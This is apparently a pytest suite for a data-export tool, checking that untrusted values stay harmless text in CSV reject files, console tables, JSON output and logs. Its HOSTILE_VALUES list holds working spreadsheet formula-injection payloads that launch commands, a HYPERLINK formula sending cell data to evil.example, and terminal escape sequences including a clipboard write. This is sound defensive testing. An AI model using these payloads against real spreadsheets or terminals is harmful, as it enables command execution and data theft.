"""What a stranger wrote into a row, a name or an answer stays text: on consoles, in logs, in spreadsheets."""

import asyncio
import csv
import io
import json
import logging
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.table import Table
from rich.text import Text

from exporter.adapters.telemetry import LogTelemetry
from exporter.cli.console import Output
from exporter.cli.runs import _write
from exporter.domain.reject import RejectReason
from exporter.domain.wording import escaped
from exporter.steps.events import Event
from tests.builders import a_connection, an_export
from tests.fakes.clock import SimulatedLoop
from tests.fakes.world import World

HOSTILE_VALUES = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\n=2+2",
    "[red]red[/red]",
    "[link=http://evil.example]click[/link]",
    "[/]",
    ":bomb:",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]52;c;Y2xpcGJvYXJk\x07",
    "\x9b31m",
    "\u202etxt.exe",
    "\x08\x08\x08hidden",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def as_a_spreadsheet_reads(text: str) -> list[list[str]]:
    """The cells of a CSV file: quotes and line breaks within values are understood."""
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_row_of_a_rejects_file_is_run_as_a_formula() -> None:
    """From the segment to the file that a person opens: the values are in it, and none is a formula."""

    async def run() -> World:
        world = World()
        await world.connect(a_connection(), an_export(tolerated_reject_percentage=100.0))
        text = io.StringIO(newline="")
        csv.writer(text, quoting=csv.QUOTE_ALL).writerows([["Email"], *([value] for value in HOSTILE_VALUES)])
        await world.drop(text.getvalue().encode(), "vip/=cmd.csv")
        await world.until_quiet()
        return world

    with asyncio.Runner(loop_factory=SimulatedLoop) as runner:
        world = runner.run(run())
    document = world.storage.documents[f"reports/{world.run().run_id}/rejects.csv"]

    header, *rows = as_a_spreadsheet_reads(document.data.decode("utf-8-sig"))

    assert header == ["source", "row", "reason", "detail", "email"]
    assert [row[4].removeprefix("'") for row in rows] == list(HOSTILE_VALUES)
    assert {row[2] for row in rows} == {RejectReason.INVALID_EMAIL.value}
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_a_console_shows_a_value_in_whatever_it_stands_in(
    value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    table = Table(title=Text(value))
    table.add_column(Text(value))
    table.add_row(Text(value), value)
    output = Output()
    output.show(table, Text(value), Text.assemble((value, "bold red")))
    output.show_command(value)

    shown = capsys.readouterr().out

    assert all(character.isprintable() or character == "\n" for character in shown)
    if value.startswith("["):
        assert value in shown


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_a_document_for_programs_is_json_that_steers_no_terminal(
    value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    Output(as_json=True).document({"why": value})

    text = capsys.readouterr().out
    assert json.loads(text) == {"why": value}
    assert not any(ord(character) < 0x20 or 0x7F <= ord(character) < 0xA0 for character in text[:-1])


def test_colours_of_our_own_are_not_taken_for_a_strangers(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """On a terminal styles stay what they are: the escaping concerns text alone."""
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.delenv("NO_COLOR", raising=False)
    Output().show(Text("\x1b[5mgood", style="green"))

    assert capsys.readouterr().out == "\x1b[32m\\x1b[5mgood\x1b[0m\n"


@pytest.mark.parametrize("is_terminal", [True, False])
async def test_rejects_are_a_faithful_file_and_on_a_terminal_harmless(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, *, is_terminal: bool
) -> None:
    data = "source,row,reason,detail,email\r\nvip/é.csv,1,invalid_email,why,\x1b[2Jann\rbo\x9b1m\r\n".encode()
    cut = data.index("é".encode()) + 1

    async def blocks() -> AsyncIterator[bytes]:
        yield data[:cut]
        yield data[cut:]

    with (tmp_path / "out").open("w+", encoding="utf-8", newline="") as out:
        monkeypatch.setattr(sys, "stdout", out)
        monkeypatch.setattr(out, "isatty", lambda: is_terminal, raising=False)
        await _write(blocks())
    written = (tmp_path / "out").read_bytes()

    if is_terminal:
        text = written.decode()
        assert text == "source,row,reason,detail,email\nvip/é.csv,1,invalid_email,why,\\x1b[2Jannbo\\x9b1m\n"
    else:
        assert written == data


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_an_event_is_one_line_of_the_log(value: str, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger="exporter"):
        LogTelemetry().event(Event.DROP_IGNORED, why=value)

    (message,) = caplog.messages
    assert message == f"drop.ignored why={escaped(value)}"
    assert message.isprintable()


@given(st.text())
def test_escaped_text_is_printable_and_printable_text_stays(text: str) -> None:
    assert escaped(text).isprintable()
    assert escaped(escaped(text)) == escaped(text)
    assert not text.isprintable() or escaped(text) == text
